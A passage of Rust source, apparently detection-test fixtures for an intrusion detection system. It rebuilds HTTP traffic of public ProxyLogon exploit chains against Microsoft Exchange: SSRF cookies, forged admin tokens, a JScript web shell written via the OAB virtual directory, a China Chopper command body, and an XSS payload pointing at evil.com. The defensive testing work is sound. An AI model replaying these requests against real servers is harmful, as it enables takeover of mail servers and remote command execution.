    let body = "<s:Envelope xml:lang=\"en-US\" xmlns:s=\"http://www.w3.org/2003/05/soap-envelope\" xmlns:a=\"http://schemas.xmlsoap.org/ws/2004/08/addressing\" xmlns:rsp=\"http://schemas.microsoft.com/wbem/wsman/1/windows/shell\"><s:Header><a:Action>http://schemas.microsoft.com/wbem/wsman/1/windows/shell/CommandResponse</a:Action></s:Header><s:Body><rsp:CommandResponse><rsp:CommandId>931F2C64-085E-4D4B-A19B-3C7012EE5501</rsp:CommandId></rsp:CommandResponse></s:Body></s:Envelope>";
    response(
        200,
        "OK",
        &[("Content-Type", "application/soap+xml;charset=UTF-8")],
        body.as_bytes(),
    )
}

/// A CommonAccessToken as ProxyShell PoCs forge it (§3.2 item 4): Windows/Kerberos for the
/// Administrator SID with the built-in Administrators group, base64, percent-encoded for a query.
fn rps_cat() -> String {
    let mut t = Vec::new();
    t.extend_from_slice(b"V\x01\x00T\x07WindowsC\x00A\x08KerberosL");
    let upn = b"administrator@contoso.com";
    t.push(upn.len() as u8);
    t.extend_from_slice(upn);
    t.push(b'U');
    t.push(ADMIN_SID.len() as u8);
    t.extend_from_slice(ADMIN_SID.as_bytes());
    t.extend_from_slice(b"G\x01\x00\x00\x00\x07\x00\x00\x00\x0cS-1-5-32-544E\x00\x00\x00\x00");
    pct(&base64(&t))
}

/// The Outlook Autodiscover request body (§2.3).
fn autodiscover_body(mail: &str) -> Vec<u8> {
    format!(
        "<Autodiscover xmlns=\"http://schemas.microsoft.com/exchange/autodiscover/outlook/requestschema/2006\">\r\n    <Request>\r\n      <EMailAddress>{mail}</EMailAddress> <AcceptableResponseSchema>http://schemas.microsoft.com/exchange/autodiscover/outlook/responseschema/2006a</AcceptableResponseSchema>\r\n    </Request>\r\n</Autodiscover>\r\n"
    )
    .into_bytes()
}

const LEGACY_DN: &str = "/o=Contoso/ou=Exchange Administrative Group (FYDIBOHF23SPDLT)/cn=Recipients/cn=5d0a5c3e71b44a4f9a2b3c2d1e0f9a8b-Administrator";

fn autodiscover_response(be_target: bool) -> Vec<u8> {
    let body = format!(
        "<?xml version=\"1.0\" encoding=\"utf-8\"?>\r\n<Autodiscover xmlns=\"http://schemas.microsoft.com/exchange/autodiscover/responseschema/2006\"><Response xmlns=\"http://schemas.microsoft.com/exchange/autodiscover/outlook/responseschema/2006a\"><User><DisplayName>Administrator</DisplayName><LegacyDN>{LEGACY_DN}</LegacyDN><AutoDiscoverSMTPAddress>administrator@contoso.com</AutoDiscoverSMTPAddress><DeploymentId>0f6a3b2c-1d4e-4f5a-8b6c-7d8e9f0a1b2c</DeploymentId></User><Account><AccountType>email</AccountType><Action>settings</Action><Protocol><Type>EXCH</Type><Server>{MBX_GUID}</Server><ServerDN>/o=Contoso/ou=Exchange Administrative Group (FYDIBOHF23SPDLT)/cn=Configuration/cn=Servers/cn={MBX_GUID}</ServerDN><ServerVersion>73C18880</ServerVersion></Protocol></Account></Response></Autodiscover>"
    );
    let mut h: Vec<(&str, &str)> = vec![("Content-Type", "text/xml; charset=utf-8")];
    if be_target {
        h.push(("X-CalculatedBETarget", "ex01.contoso.local"));
    }
    response(200, "OK", &h, body.as_bytes())
}

/// MAPI/HTTP Connect body: the LegacyDN and the fixed tail of §2.4.
fn mapi_connect_body(tail: &[u8]) -> Vec<u8> {
    cat(&[LEGACY_DN.as_bytes(), tail])
}

const MAPI_TAIL_TESTANULL: &[u8] =
    b"\x00\x00\x00\x00\x00\xe4\x04\x00\x00\x09\x04\x00\x00\x09\x04\x00\x00\x00\x00\x00\x00";

/// The MAPI Connect answer when the back end runs as the machine account: an error text that
/// names the mailbox owner's SID (§2.4).
fn mapi_sid_leak_response(be_target: bool) -> Vec<u8> {
    let body = cat(&[
        b"PROCESSING\r\nDONE\r\nX-ResponseCode: 0\r\nX-ElapsedTime: 3\r\nX-StartTime: Wed, 03 Mar 2021 09:14:07 GMT\r\n\r\n",
        b"\x00\x00\x00\x00\xa8\x01\x00\x00",
        format!("Microsoft.Exchange.RpcClientAccess.Server.LoginPermException: 'NT AUTHORITY\\SYSTEM' can not act as owner of a UserMailbox object '{LEGACY_DN}' with SID {ADMIN_SID} and MasterAccountSid S-1-5-10\r\n").as_bytes(),
    ]);
    let mut h: Vec<(&str, &str)> = vec![
        ("Content-Type", "application/mapi-http"),
        ("X-RequestType", "Connect"),
        ("X-ResponseCode", "0"),
    ];
    if be_target {
        h.push(("X-CalculatedBETarget", "ex01.contoso.local"));
    }
    response(200, "OK", &h, &body)
}

/// proxyLogon.ecp body (§2.5).
fn proxylogon_body(at: &str, ln: &str) -> Vec<u8> {
    format!("<r at=\"{at}\" ln=\"{ln}\"><s>{ADMIN_SID}</s><s a=\"7\" t=\"1\">S-1-1-0</s><s a=\"7\" t=\"1\">S-1-5-2</s><s a=\"7\" t=\"1\">S-1-5-11</s><s a=\"7\" t=\"1\">S-1-5-15</s><s a=\"3221225479\" t=\"1\">S-1-5-5-0-6948923</s></r>").into_bytes()
}

/// The 241 answer that hands out an ECP session (§2.5).
fn proxylogon_241() -> Vec<u8> {
    let sess = format!("ASP.NET_SessionId={SESSION}; path=/; secure; HttpOnly");
    let canary = format!("msExchEcpCanary={CANARY}; path=/ecp");
    response(
        241,
        "",
        &[
            ("Content-Type", "text/html; charset=utf-8"),
            ("Set-Cookie", &sess),
            ("Set-Cookie", &canary),
            ("X-CalculatedBETarget", "ex01.contoso.local"),
        ],
        b"",
    )
}

fn ecp_json_ok(body: &str, be_target: bool) -> Vec<u8> {
    let mut h: Vec<(&str, &str)> = vec![("Content-Type", "application/json; charset=utf-8")];
    if be_target {
        h.push(("X-CalculatedBETarget", "ex01.contoso.local"));
    }
    response(200, "OK", &h, body.as_bytes())
}

const DDI_GET_OAB_RESPONSE: &str = "{\"d\":{\"__type\":\"JsonDictionaryOfanyType:#Microsoft.Exchange.Management.ControlPanel\",\"Output\":[{\"__type\":\"OABVirtualDirectoryRow:ECP\",\"Identity\":{\"__type\":\"Identity:ECP\",\"DisplayName\":\"OAB (Default Web Site)\",\"RawIdentity\":\"7d3ad2f6-4b3a-4a2e-9c53-2f6f0d2a1b4c\"},\"Name\":\"OAB (Default Web Site)\",\"Server\":\"EX01\",\"ExternalUrl\":\"https://mail.contoso.com/OAB\",\"InternalUrl\":\"https://ex01.contoso.local/OAB\",\"OfflineAddressBooks\":[]}],\"ErrorRecords\":[],\"Warnings\":[]}}";
const DDI_SET_OK: &str = "{\"d\":{\"__type\":\"JsonDictionaryOfanyType:#Microsoft.Exchange.Management.ControlPanel\",\"ErrorRecords\":[],\"Output\":[],\"Warnings\":[]}}";

/// The testanull-lineage DDI body that sets the OAB ExternalUrl (§2.7).
fn set_external_url_body(url_json: &str) -> Vec<u8> {
    format!("{{\"identity\":{{\"__type\":\"Identity:ECP\",\"DisplayName\":\"OAB (Default Web Site)\",\"RawIdentity\":\"{OAB_ID}\"}},\"properties\":{{\"Parameters\":{{\"__type\":\"JsonDictionaryOfanyType:#Microsoft.Exchange.Management.ControlPanel\",\"ExternalUrl\":\"{url_json}\"}}}}}}").into_bytes()
}

/// The DDI body that resets the OAB virtual directory, saving its settings to `path_json`
/// (already JSON-escaped) (§2.8).
fn reset_body(path_json: &str) -> Vec<u8> {
    format!("{{\"identity\":{{\"__type\":\"Identity:ECP\",\"DisplayName\":\"OAB (Default Web Site)\",\"RawIdentity\":\"{OAB_ID}\"}},\"properties\":{{\"Parameters\":{{\"__type\":\"JsonDictionaryOfanyType:#Microsoft.Exchange.Management.ControlPanel\",\"FilePathName\":\"{path_json}\"}}}}}}").into_bytes()
}

/// What a CVE-2021-27065-written shell answers: command output (written by Page_Load before the
/// page), then the OAB virtual-directory settings text the file was made of, with the script
/// block gone (§2.9).
fn oab_dump_response(output: &str, external: &str) -> Vec<u8> {
    let body = format!(
        "{output}\r\nRunspaceId                      : 2f0e4d3c-9b8a-4766-a5d4-c3b2a1908f7e\r\nPollInterval                    : 480\r\nOfflineAddressBooks             :\r\nRequireSSL                      : True\r\nBasicAuthentication             : False\r\nWindowsAuthentication           : True\r\nOAuthAuthentication             : True\r\nMetabasePath                    : IIS://EX01.contoso.local/W3SVC/1/ROOT/OAB\r\nPath                            : C:\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\OAB\r\nExtendedProtectionTokenChecking : None\r\nExtendedProtectionFlags         :\r\nExtendedProtectionSPNList       :\r\nAdminDisplayVersion             : Version 15.1 (Build 2176.2)\r\nServer                          : EX01\r\nInternalUrl                     : https://ex01.contoso.local/OAB\r\nInternalAuthenticationMethods   : {{WindowsIntegrated}}\r\nExternalUrl                     : {external}\r\nExternalAuthenticationMethods   : {{WindowsIntegrated}}\r\nName                            : OAB (Default Web Site)\r\nIdentity                        : EX01\\OAB (Default Web Site)\r\n"
    );
    response(
        200,
        "OK",
        &[("Content-Type", "text/html; charset=utf-8")],
        body.as_bytes(),
    )
}

/// China Chopper / AntSword ASPX client body (§7.1): `pwd=<wrapper>&z1=..&z2=..`, the wrapper
/// form-encoded (`encode`) or sent as is.
fn chopper_body(pwd: &str, codepage: &str, encode: bool) -> Vec<u8> {
    let inner = base64(b"var c=new System.Diagnostics.ProcessStartInfo(System.Text.Encoding.GetEncoding(65001).GetString(System.Convert.FromBase64String(Request.Item[\"z1\"])));var e=new System.Diagnostics.Process();var out:System.IO.StreamReader,EI:System.IO.StreamReader;c.UseShellExecute=false;c.RedirectStandardOutput=true;c.RedirectStandardError=true;e.StartInfo=c;c.Arguments=\"/c \"+System.Text.Encoding.GetEncoding(65001).GetString(System.Convert.FromBase64String(Request.Item[\"z2\"]));e.Start();out=e.StandardOutput;EI=e.StandardError;e.Close();Response.Write(out.ReadToEnd()+EI.ReadToEnd());");
    let wrapper = format!("Response.Write(\"->|\");var err:Exception;try{{eval(System.Text.Encoding.GetEncoding({codepage}).GetString(System.Convert.FromBase64String(\"{inner}\")),\"unsafe\");}}catch(err){{Response.Write(\"ERROR:// \"+err.message);}}Response.Write(\"|<-\");Response.End();");
    let z1 = base64(b"cmd");
    let z2 = base64(b"cd /d \"C:\\inetpub\\wwwroot\\aspnet_client\\\"&whoami&echo [S]&cd&echo [E]");
    let w = if encode {
        form_encode(&wrapper)
    } else {
        wrapper
    };
    format!("{pwd}={w}&z1={}&z2={}", form_encode(&z1), form_encode(&z2)).into_bytes()
}

fn chopper_response() -> Vec<u8> {
    response(
        200,
        "OK",
        &[("Content-Type", "text/html; charset=utf-8")],
        b"->|nt authority\\system\r\n[S]\r\nC:\\inetpub\\wwwroot\\aspnet_client\r\n[E]\r\n|<-",
    )
}

/// The JScript one-liner the 27065 and ProxyShell PoCs send to their shell (§2.9).
const JSCRIPT_WHOAMI: &str =
    "Response.Write(new ActiveXObject(\"WScript.Shell\").exec(\"cmd /c whoami\").stdout.readall())";

fn not_found() -> Vec<u8> {
    response(404, "Not Found", &[("Content-Type", "text/html")], b"<!DOCTYPE html><html><head><title>404 - File or directory not found.</title></head><body><h2>404 - File or directory not found.</h2></body></html>")
}

fn ecp_cookie_tail() -> String {
    format!("ASP.NET_SessionId={SESSION}; msExchEcpCanary={CANARY}")
}

// ---------------------------------------------------------------------------------------------
// ProxyLogon (CVE-2021-26855 -> CVE-2021-27065).
// ---------------------------------------------------------------------------------------------

const TN: &str = "~1942062522"; // testanull-lineage version suffix
const SHELL_NAME: &str = "kxnqwz";

/// The testanull-lineage chain (§2.0-§2.9, S-UDYZ), stages 1-8 plus the cleanup, on carrier
/// `carrier`: [probe, autodiscover, mapi, proxyLogon, GetObject, SetObject, Reset, cleanup, shell].
fn testanull_chain(carrier: &str) -> Vec<Exchange> {
    let ua = UA_CHROME88;
    let ddi = |op: &str, schema: &str| {
        format!("X-BEResource=Admin@{BE}:444/ecp/DDI/DDIService.svc/{op}?schema={schema}&msExchEcpCanary={CANARY}&a={TN}; {}", ecp_cookie_tail())
    };
    let json = "application/json; charset=utf-8";
    let probe = ex(
        request(
            "GET",
            carrier,
            &[
                ("User-Agent", ua),
                ("Cookie", &format!("X-BEResource=localhost{TN}")),
            ],
            b"",
        ),
        response(
            500,
            "Internal Server Error",
            &[
                ("Content-Type", "text/html"),
                ("X-CalculatedBETarget", "localhost"),
            ],
            b"<html><body>NegotiateSecurityContext failed</body></html>",
        ),
    );
    let autod = ex(
        request(
            "POST",
            carrier,
            &[
                ("User-Agent", ua),
                (
                    "Cookie",
                    &format!("X-BEResource={BE}/autodiscover/autodiscover.xml?a={TN};"),
                ),
                ("Content-Type", "text/xml"),
            ],
            &autodiscover_body("administrator@contoso.com"),
        ),
        autodiscover_response(true),
    );
    let mapi = ex(
        request(
            "POST",
            carrier,
            &[
                ("User-Agent", ua),
                (
                    "Cookie",
                    &format!(
                        "X-BEResource=Admin@{BE}:444/mapi/emsmdb?MailboxId={MBX_GUID}&a={TN};"
                    ),
                ),
                ("Content-Type", "application/mapi-http"),
                ("X-Requesttype", "Connect"),
                ("X-Clientinfo", "{2F94A2BF-A2E6-4CCCC-BF98-B5F22C542226}"),
                ("X-Clientapplication", "Outlook/15.0.4815.1002"),
                ("X-Requestid", "{C715155F-2BE8-44E0-BD34-2960067874C8}:500"),
            ],
            &mapi_connect_body(MAPI_TAIL_TESTANULL),
        ),
        mapi_sid_leak_response(true),
    );
    let logon = ex(
        request(
            "POST",
            carrier,
            &[
                ("User-Agent", ua),
                (
                    "Cookie",
                    &format!("X-BEResource=Admin@{BE}:444/ecp/proxyLogon.ecp?a={TN};"),
                ),
                ("Content-Type", "text/xml"),
                ("msExchLogonMailbox", "S-1-5-20"),
            ],
            &proxylogon_body("Negotiate", "john"),
        ),
        proxylogon_241(),
    );
    let get = ex(
        request(
            "POST",
            carrier,
            &[("User-Agent", ua), ("Cookie", &ddi("GetObject", "OABVirtualDirectory")), ("Content-Type", json), ("msExchLogonMailbox", "S-1-5-20")],
            b"{\"filter\":{\"Parameters\":{\"__type\":\"JsonDictionaryOfanyType:#Microsoft.Exchange.Management.ControlPanel\",\"SelectedView\":\"\",\"SelectedVDirType\":\"All\"}},\"sort\":{}}",
        ),
        ecp_json_ok(DDI_GET_OAB_RESPONSE, true),
    );
    let set = ex(
        request(
            "POST",
            carrier,
            &[
                ("User-Agent", ua),
                ("Cookie", &ddi("SetObject", "OABVirtualDirectory")),
                ("Content-Type", json),
                ("msExchLogonMailbox", "S-1-5-20"),
            ],
            &set_external_url_body(
                r#"http://ffff/#<script language=\"JScript\" runat=\"server\"> function Page_Load(){/**/eval(Request[\"exec_code\"],\"unsafe\");}</script>"#,
            ),
        ),
        ecp_json_ok(DDI_SET_OK, true),
    );
    let reset = ex(
        request(
            "POST",
            carrier,
            &[
                ("User-Agent", ua),
                ("Cookie", &ddi("SetObject", "ResetOABVirtualDirectory")),
                ("Content-Type", json),
                ("msExchLogonMailbox", "S-1-5-20"),
            ],
            &reset_body(&format!(
                r#"\\\\127.0.0.1\\c$\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\owa\\auth\\{SHELL_NAME}.aspx"#
            )),
        ),
        ecp_json_ok(DDI_SET_OK, true),
    );
    let cleanup = ex(
        request(
            "POST",
            carrier,
            &[
                ("User-Agent", ua),
                ("Cookie", &ddi("SetObject", "OABVirtualDirectory")),
                ("Content-Type", json),
                ("msExchLogonMailbox", "S-1-5-20"),
            ],
            &set_external_url_body(""),
        ),
        ecp_json_ok(DDI_SET_OK, true),
    );
    let shell = ex(
        request(
            "POST",
            &format!("/owa/auth/{SHELL_NAME}.aspx"),
            &[
                ("User-Agent", ua),
                ("Content-Type", "application/x-www-form-urlencoded"),
            ],
            format!("exec_code={}", form_encode(JSCRIPT_WHOAMI)).as_bytes(),
        ),
        oab_dump_response("nt authority\\system", "http://ffff/#"),
    );
    vec![probe, autod, mapi, logon, get, set, reset, cleanup, shell]
}

fn proxylogon(v: &mut Vec<Scenario>) {
    let chain = testanull_chain("/ecp/qkx.js");

    // --- probes and scanners (§2.2, §1.3) ---
    v.push(attack(
        "pl-probe-testanull",
        "testanull-lineage SSRF probe: GET /ecp/<rand>.js with X-BEResource=localhost~1942062522; the front end proxies and answers with X-CalculatedBETarget: localhost (§2.2, S-UDYZ).",
        vec![chain[0].clone()],
        &[PL_BERESOURCE, PL_OK_BETARGET],
        &[CVE_2021_26855],
    ));
    v.push(attack(
        "pl-probe-dmaasland-patched",
        "dmaasland probe X-BEResource=localhost~<small n> to /ecp/<5>.js with the python-requests UA; the (patched) server answers 404 without X-CalculatedBETarget, so only the attempt fires (§2.2, S-DMA-PL).",
        vec![ex(
            request("GET", "/ecp/pzqmt.js", &[("User-Agent", UA_PYREQ), ("Accept-Encoding", "gzip, deflate"), ("Accept", "*/*"), ("Connection", "keep-alive"), ("Cookie", "X-BEResource=localhost~8421337")], b""),
            not_found(),
        )],
        &[PL_BERESOURCE, UA_PYREQUESTS],
        &[CVE_2021_26855],
    ));
    v.push(attack(
        "pl-probe-hakivvi",
        "hakivvi probe X-BEResource=[x]@x/#version=~1941962753 on an .ico carrier (§2.2, S-HAK).",
        vec![ex(
            request(
                "GET",
                "/ecp/nbvcx.ico",
                &[
                    ("User-Agent", UA_CHROME88),
                    ("Cookie", "X-BEResource=[x]@x/#version=~1941962753"),
                ],
                b"",
            ),
            response(
                500,
                "Internal Server Error",
                &[("Content-Type", "text/html"), ("X-CalculatedBETarget", "x")],
                b"",
            ),
        )],
        &[PL_BERESOURCE, PL_OK_BETARGET],
        &[CVE_2021_26855],
    ));
    v.push(attack(
        "pl-probe-nmap",
        "Nmap http-vuln-cve2021-26855: GET /owa/auth/x.js with X-AnonResource=true; X-AnonResource-Backend=localhost/ecp/default.flt?~3; X-BEResource=localhost/owa/auth/logon.aspx?~3; answer 500 with X-CalculatedBETarget: localhost (§2.2, App. C.3, S-NSE, S-SBPR125).",
        vec![ex(
            request("GET", "/owa/auth/x.js", &[("Connection", "close"), ("User-Agent", "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"), ("Cookie", "X-AnonResource=true; X-AnonResource-Backend=localhost/ecp/default.flt?~3; X-BEResource=localhost/owa/auth/logon.aspx?~3;")], b""),
            response(500, "Internal Server Error", &[("Content-Type", "text/html"), ("X-CalculatedBETarget", "localhost")], b""),
        )],
        &[PL_BERESOURCE, PL_ANONRESOURCE, PL_OK_BETARGET, UA_NMAP],
        &[CVE_2021_26855],
    ));
    v.push(attack(
        "pl-probe-msf-scanner",
        "Metasploit auxiliary/scanner/http/exchange_proxylogon: POST /owa/auth/x.js with the nmap cookie set; vulnerable on 500 (§2.2, S-MSF-SCAN).",
        vec![ex(
            request("POST", "/owa/auth/x.js", &[("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:86.0) Gecko/20100101 Firefox/86.0"), ("Cookie", "X-AnonResource=true; X-AnonResource-Backend=localhost/ecp/default.flt?~3; X-BEResource=localhost/owa/auth/logon.aspx?~3;")], b""),
            response(500, "Internal Server Error", &[("Content-Type", "text/html"), ("X-CalculatedBETarget", "localhost")], b""),
        )],
        &[PL_BERESOURCE, PL_ANONRESOURCE, PL_OK_BETARGET],
        &[CVE_2021_26855],
    ));
    v.push(attack(
        "pl-probe-nuclei",
        "nuclei CVE-2021-26855: GET /owa/auth/x.js with X-AnonResource-Backend=<oast host>/ecp/default.flt?~3 (out-of-band confirmation) (§2.2, S-NUC).",
        vec![ex(
            request("GET", "/owa/auth/x.js", &[("User-Agent", "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/14.0.3 Safari/605.1.15"), ("Cookie", "X-AnonResource=true; X-AnonResource-Backend=c59e3crp82ke7bcnedq0cfjqdpeyyyyyn.oast.fun/ecp/default.flt?~3;"), ("Accept-Encoding", "gzip")], b""),
            response(500, "Internal Server Error", &[("Content-Type", "text/html"), ("X-CalculatedBETarget", "c59e3crp82ke7bcnedq0cfjqdpeyyyyyn.oast.fun")], b""),
        )],
        &[PL_ANONRESOURCE, PL_OK_BETARGET],
        &[CVE_2021_26855],
    ));
    v.push(attack(
        "pl-probe-alt3kx",
        "alt3kx README probes: X-AnonResource-Backend=<host>/#~1 on /owa/auth/Current/themes/resources/logon.css, then X-BEResource=<host>/api/endpoint#~1 on /ecp/favicon.ico, UA alex666 (§2.2, S-ALT3KX).",
        vec![
            ex(
                request("GET", "/owa/auth/Current/themes/resources/logon.css", &[("User-Agent", "alex666"), ("Cookie", "X-AnonResource=true; X-AnonResource-Backend=burp.attacker.example/#~1")], b""),
                response(503, "Service Unavailable", &[("Content-Type", "text/html")], b""),
            ),
            ex(
                request("GET", "/ecp/favicon.ico", &[("User-Agent", "alex666"), ("Cookie", "X-BEResource=burp.attacker.example/api/endpoint#~1")], b""),
                response(503, "Service Unavailable", &[("Content-Type", "text/html")], b""),
            ),
        ],
        &[PL_BERESOURCE, PL_ANONRESOURCE, UA_ALEX666],
        &[CVE_2021_26855],
    ));
    v.push(attack(
        "po-proxyoracle-xss-and-anonresource",
        "ProxyOracle: the frowny.aspx refurl XSS that plants X-AnonResource cookies, then /owa/auth/any.skin carrying X-AnonResource-Backend=@evil.com:443/path/any.php%23~1941962753 (§6, S-ORANGE).",
        vec![
            ex(
                request("GET", &format!("/owa/auth/frowny.aspx?app=people&et=ServerError&esrc=MasterPage&te=\\&refurl={}", pct("}}};document.cookie='X-AnonResource=true';document.cookie='X-AnonResource-Backend=@evil.com:443/path/any.php%23~1941962753';fetch('/owa/auth/any.skin')//")), &[("User-Agent", UA_EDGE)], b""),
                response(200, "OK", &[("Content-Type", "text/html; charset=utf-8")], b"<html><body><div id=\"errMsg\">Something went wrong</div></body></html>"),
            ),
            ex(
                request("GET", "/owa/auth/any.skin", &[("User-Agent", UA_EDGE), ("Cookie", "cadata=8f2dWkZ1mQ; cadataTTL=NfbS1bKMA; cadataKey=qUq2; cadataIV=Aw3m; cadataSig=Jr8x; X-AnonResource=true; X-AnonResource-Backend=@evil.com:443/path/any.php%23~1941962753")], b""),
                response(200, "OK", &[("Content-Type", "text/plain")], b""),
            ),
        ],
        &[PL_ANONRESOURCE, PO_XSS],
        &[CVE_2021_26855, CVE_2021_31195],
    ));

    // --- one scenario per stage and per public exploit form ---
    v.push(attack(
        "pl-autodiscover-testanull",
        "Stage 2, testanull lineage: X-BEResource=<FQDN>/autodiscover/autodiscover.xml?a=~1942062522 with an Outlook Autodiscover body; LegacyDN comes back (§2.3).",
        vec![chain[1].clone()],
        &[PL_BERESOURCE, PL_AUTODISCOVER, PL_OK_BETARGET, PL_OK_LEGACYDN],
        &[CVE_2021_26855],
    ));
    v.push(attack(
        "pl-autodiscover-kh4sh3i",
        "Stage 2, kh4sh3i/RGDZ and in-the-wild (HelseCERT): X-BEResource=a]@<srv>:444/autodiscover/autodiscover.xml?#~1941962753 on /ecp/y.js, UA ExchangeServicesClient/0.0.0.0, Content-Type application/json even for XML (§2.3, §2.13, S-KH4, S-HELSE).",
        vec![ex(
            request("POST", "/ecp/y.js", &[("User-Agent", "ExchangeServicesClient/0.0.0.0"), ("Content-Type", "application/json"), ("Cookie", &format!("X-BEResource=a]@{BE}:444/autodiscover/autodiscover.xml?#~1941962753;"))], &autodiscover_body("administrator@contoso.com")),
            autodiscover_response(true),
        )],
        &[PL_BERESOURCE, PL_AUTODISCOVER, PL_OK_BETARGET, PL_OK_LEGACYDN, UA_EWSCLIENT0],
        &[CVE_2021_26855],
    ));
    v.push(attack(
        "pl-autodiscover-msf",
        "Stage 2, Metasploit exchange_proxylogon_rce: X-BEResource=[:[@<server>/autodiscover/autodiscover.xml?a=~<rand>; (no :444) on /ecp/<1-3>.js, bare Mozilla/5.0 UA (§2.3, S-MSF-RCE).",
        vec![ex(
            request("POST", "/ecp/gh.js", &[("User-Agent", "Mozilla/5.0"), ("Content-Type", "text/xml"), ("Cookie", &format!("X-BEResource=[:[@{BE}/autodiscover/autodiscover.xml?a=~2078465124;"))], &autodiscover_body("administrator@contoso.com")),
            autodiscover_response(true),
        )],
        &[PL_BERESOURCE, PL_AUTODISCOVER, PL_OK_BETARGET, PL_OK_LEGACYDN, UA_BARE_MOZILLA],
        &[CVE_2021_26855],
    ));
    v.push(attack(
        "pl-mapi-testanull",
        "Stage 3, testanull lineage: MAPI/HTTP Connect through X-BEResource=Admin@<FQDN>:444/mapi/emsmdb?MailboxId=...&a=~1942062522 with the malformed X-Clientinfo GUID; the answer leaks the SID (§2.4).",
        vec![chain[2].clone()],
        &[PL_BERESOURCE, PL_MAPI, PL_FP_CLIENTINFO, PL_OK_BETARGET, PL_OK_SID],
        &[CVE_2021_26855],
    ));
    v.push(attack(
        "pl-mapi-praetorian",
        "Stage 3, Praetorian: /ecp/favicon.ico with X-BEResource=[:[@<backend>:444/mapi/emsmdb/?mailboxId=...#~1941962753, X-ClientApplication MapiHttpClient/15.2.464.5 (§2.4, S-PRAET).",
        vec![ex(
            request(
                "POST",
                "/ecp/favicon.ico",
                &[
                    ("User-Agent", UA_CHROME88_150),
                    ("Cookie", &format!("X-BEResource=[:[@{BE}:444/mapi/emsmdb/?mailboxId={MBX_GUID}#~1941962753")),
                    ("Content-Type", "application/mapi-http"),
                    ("X-RequestType", "Connect"),
                    ("X-ClientApplication", "MapiHttpClient/15.2.464.5"),
                    ("X-RequestId", "12345678-1234-1234-1234-1234567890ab"),
                ],
                &mapi_connect_body(b"\x00\x00\x00\x00\x00\x9fN\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00"),
            ),
            mapi_sid_leak_response(true),
        )],
        &[PL_BERESOURCE, PL_MAPI, PL_OK_BETARGET, PL_OK_SID],
        &[CVE_2021_26855],
    ));
    v.push(over(
        attack(
            "pl-mapi-hakivvi-fragmented",
            "Stage 3, hakivvi: X-BEResource=[EX01]@<CN>:444/mapi/emsmdb?MailboxId=asdfasdf...#version=~1941962753 on /ecp/<5>.ico with X-RequestId asdf-asdf-asdf-asdf; sent in IP fragments (§2.4, S-HAK).",
            vec![ex(
                request(
                    "POST",
                    "/ecp/qwert.ico",
                    &[
                        ("Cookie", &format!("X-BEResource=[EX01]@{BE}:444/mapi/emsmdb?MailboxId=asdfasdf-asdf-asdf-asdf-asdfasdfasdf@asdfasdf.com#version=~1941962753")),
                        ("Content-Type", "application/mapi-http"),
                        ("X-RequestType", "Connect"),
                        ("X-ClientApplication", "Outlook/15.0.5327.1000"),
                        ("X-RequestId", "asdf-asdf-asdf-asdf"),
                    ],
                    &mapi_connect_body(b"\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00"),
                ),
                mapi_sid_leak_response(true),
            )],
            &[PL_BERESOURCE, PL_MAPI, PL_FP_REQUESTID, PL_OK_BETARGET, PL_OK_SID],
            &[CVE_2021_26855],
        ),
        Transport::Fragmented,
    ));
    v.push(attack(
        "pl-proxylogon-testanull",
        "Stage 4, testanull lineage: /ecp/proxyLogon.ecp through the cookie, msExchLogonMailbox: S-1-5-20, <r at=\"Negotiate\" ln=\"john\"> body; answer 241 with ASP.NET_SessionId and msExchEcpCanary (§2.5).",
        vec![chain[3].clone()],
        &[PL_BERESOURCE, PL_PROXYLOGON, PL_PROXYLOGON_BODY, PL_OK_BETARGET, PL_OK_241],
        &[CVE_2021_26855],
    ));
    v.push(attack(
        "pl-proxylogon-dmaasland",
        "Stage 4, dmaasland: X-BEResource=Admin@<FQDN>:444/ecp/proxyLogon.ecp?x=~<n>, <r at=\"NTLM\" ln=\"user\">, python-requests UA; 241 (§2.5, S-DMA-PL).",
        vec![ex(
            request(
                "POST",
                "/ecp/abcde.js",
                &[("User-Agent", UA_PYREQ), ("Accept", "*/*"), ("Cookie", &format!("X-BEResource=Admin@{BE}:444/ecp/proxyLogon.ecp?x=~4518312;")), ("Content-Type", "text/xml"), ("msExchLogonMailbox", "S-1-5-20")],
                format!("<r at=\"NTLM\" ln=\"user\"><s>{ADMIN_SID}</s></r>").as_bytes(),
            ),
            proxylogon_241(),
        )],
        &[PL_BERESOURCE, PL_PROXYLOGON, PL_PROXYLOGON_BODY, PL_OK_BETARGET, PL_OK_241, UA_PYREQUESTS],
        &[CVE_2021_26855],
    ));
    v.push(attack(
        "pl-proxylogon-msf",
        "Stage 4, Metasploit: X-BEResource=[:[@<server>:444/ecp/proxyLogon.ecp&a=~<n>; with msExchLogonMailbox and msExchTargetMailbox, RID patched to -500 (§2.5, S-MSF-RCE).",
        vec![ex(
            request(
                "POST",
                "/ecp/x.js",
                &[("User-Agent", "Mozilla/5.0"), ("Cookie", &format!("X-BEResource=[:[@{BE}:444/ecp/proxyLogon.ecp&a=~2034718655;")), ("Content-Type", "text/xml"), ("msExchLogonMailbox", ADMIN_SID), ("msExchTargetMailbox", ADMIN_SID)],
                &proxylogon_body("Negotiate", "administrator"),
            ),
            proxylogon_241(),
        )],
        &[PL_BERESOURCE, PL_PROXYLOGON, PL_PROXYLOGON_BODY, PL_OK_BETARGET, PL_OK_241, UA_BARE_MOZILLA],
        &[CVE_2021_26855],
    ));
    v.push(attack(
        "pl-proxylogon-praetorian",
        "Stage 4, Praetorian: empty <r at=\"\" ln=\"\"> body and no msExchLogonMailbox header, cookie ...proxyLogon.ecp#~1941962753 on /ecp/favicon.ico (§2.5, S-PRAET).",
        vec![ex(
            request("POST", "/ecp/favicon.ico", &[("User-Agent", UA_CHROME88_150), ("Cookie", &format!("X-BEResource=[:[@{BE}:444/ecp/proxyLogon.ecp#~1941962753")), ("Content-Type", "text/xml")], format!("<r at=\"\" ln=\"\"><s>{ADMIN_SID}</s></r>").as_bytes()),
            proxylogon_241(),
        )],
